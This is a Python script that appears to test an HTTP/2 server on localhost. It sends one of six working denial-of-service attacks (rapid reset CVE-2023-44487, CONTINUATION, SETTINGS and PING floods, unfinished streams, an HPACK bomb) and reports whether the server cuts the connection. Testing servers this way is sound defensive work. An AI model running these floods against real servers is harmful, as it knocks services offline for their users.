"""A hostile HTTP/2 client: one attack on one connection, then a report of what the server did.

usage: h2_hostile.py PORT MODE SECONDS
MODE: rapid-reset | continuation-flood | settings-flood | ping-flood | no-end-stream | hpack-bomb
Prints one line: "cut after S s (GOAWAY code C)", "cut after S s (no GOAWAY)", or
"not cut in S s". Frames are written by hand (RFC 9113), so nothing here is polite.
"""
import socket
import ssl
import sys
import time

port, mode, limit = int(sys.argv[1]), sys.argv[2], float(sys.argv[3])

ctx = ssl.create_default_context()
ctx.check_hostname = False
ctx.verify_mode = ssl.CERT_NONE
ctx.set_alpn_protocols(["h2"])
sock = ctx.wrap_socket(socket.create_connection(("127.0.0.1", port)), server_hostname="localhost")
assert sock.selected_alpn_protocol() == "h2", sock.selected_alpn_protocol()

DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, CONTINUATION = 0, 1, 3, 4, 6, 7, 9
END_STREAM, END_HEADERS = 0x1, 0x4


def frame(kind, flags, stream, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def literal(name, value):
    """A header field without indexing (HPACK §6.2.2), lengths below 127."""
    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value


def integer(value, prefix_bits, first):
    """HPACK's integer encoding (§5.1) with `first` holding the flag bits."""
    top = (1 << prefix_bits) - 1
    if value < top:
        return bytes([first | value])
    out = [first | top]
    value -= top
    while value >= 128:
        out.append(value % 128 + 128)
        value //= 128
    out.append(value)
    return bytes(out)


# :method GET, :scheme https, :path / (static table), :authority localhost.
REQUEST = b"\x82\x87\x84" + b"\x41" + bytes([9]) + b"localhost"

def attack():
    """The bytes of the attack, piece by piece."""
    stream = 1
    if mode == "rapid-reset":
        # A request and its cancellation, again and again (CVE-2023-44487).
        while True:
            batch = b""
            for _ in range(100):
                batch += frame(HEADERS, END_HEADERS | END_STREAM, stream, REQUEST)
                batch += frame(RST_STREAM, 0, stream, (8).to_bytes(4, "big"))
                stream += 2
            yield batch
    elif mode == "continuation-flood":
        # A header block that never ends (the 2024 CONTINUATION flood).
        yield frame(HEADERS, 0, 1, REQUEST)
        filler = literal(b"x-filler", b"a" * 100)
        while True:
            yield frame(CONTINUATION, 0, 1, filler * 100)
    elif mode == "settings-flood":
        # SETTINGS to acknowledge, again and again.
        setting = frame(SETTINGS, 0, 0, (4).to_bytes(2, "big") + (65535).to_bytes(4, "big"))
        while True:
            yield setting * 500
    elif mode == "ping-flood":
        while True:
            yield frame(PING, 0, 0, b"12345678") * 1000
    elif mode == "no-end-stream":
        # Requests whose bodies never come, then silence.
        for _ in range(100):
            yield frame(HEADERS, END_HEADERS, stream, REQUEST)
            stream += 2
    elif mode == "hpack-bomb":
        # One 4,000-byte value put in the dynamic table, then referred to 4,000 times in one
        # header block: 16 MB of fields from a few kilobytes.
        value = b"v" * 4000
        insert = b"\x40" + bytes([6]) + b"x-bomb" + integer(len(value), 7, 0) + value
        refs = integer(62, 7, 0x80) * 4000
        yield frame(HEADERS, END_HEADERS | END_STREAM, 1, REQUEST + insert + refs)
    else:
        raise SystemExit(f"unknown mode {mode}")


# One thread: an SSL socket must not be read and written from two at once.
sock.settimeout(0.02)
started = time.monotonic()
pieces = attack()
pending = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0)
received = b""
goaway = None
closed = None
while closed is None and time.monotonic() - started < limit:
    if not pending:
        pending = next(pieces, b"")
    if pending:
        try:
            pending = pending[sock.send(pending[:65536]):]
        except (socket.timeout, ssl.SSLWantReadError, ssl.SSLWantWriteError):
            pass
        except OSError:
            closed = time.monotonic() - started
            break
    try:
        chunk = sock.recv(65536)
    except (socket.timeout, ssl.SSLWantReadError, ssl.SSLWantWriteError):
        continue
    except OSError:
        chunk = b""
    if not chunk:
        closed = time.monotonic() - started
        break
    received += chunk
    while len(received) >= 9:
        length = int.from_bytes(received[:3], "big")
        if len(received) < 9 + length:
            break
        if received[3] == GOAWAY and goaway is None:
            goaway = int.from_bytes(received[13:17], "big")
        received = received[9 + length:]
if closed is not None:
    said = f"GOAWAY code {goaway}" if goaway is not None else "no GOAWAY"
    print(f"cut after {closed:.2f} s ({said})")
else:
    print(f"not cut in {limit:.0f} s")
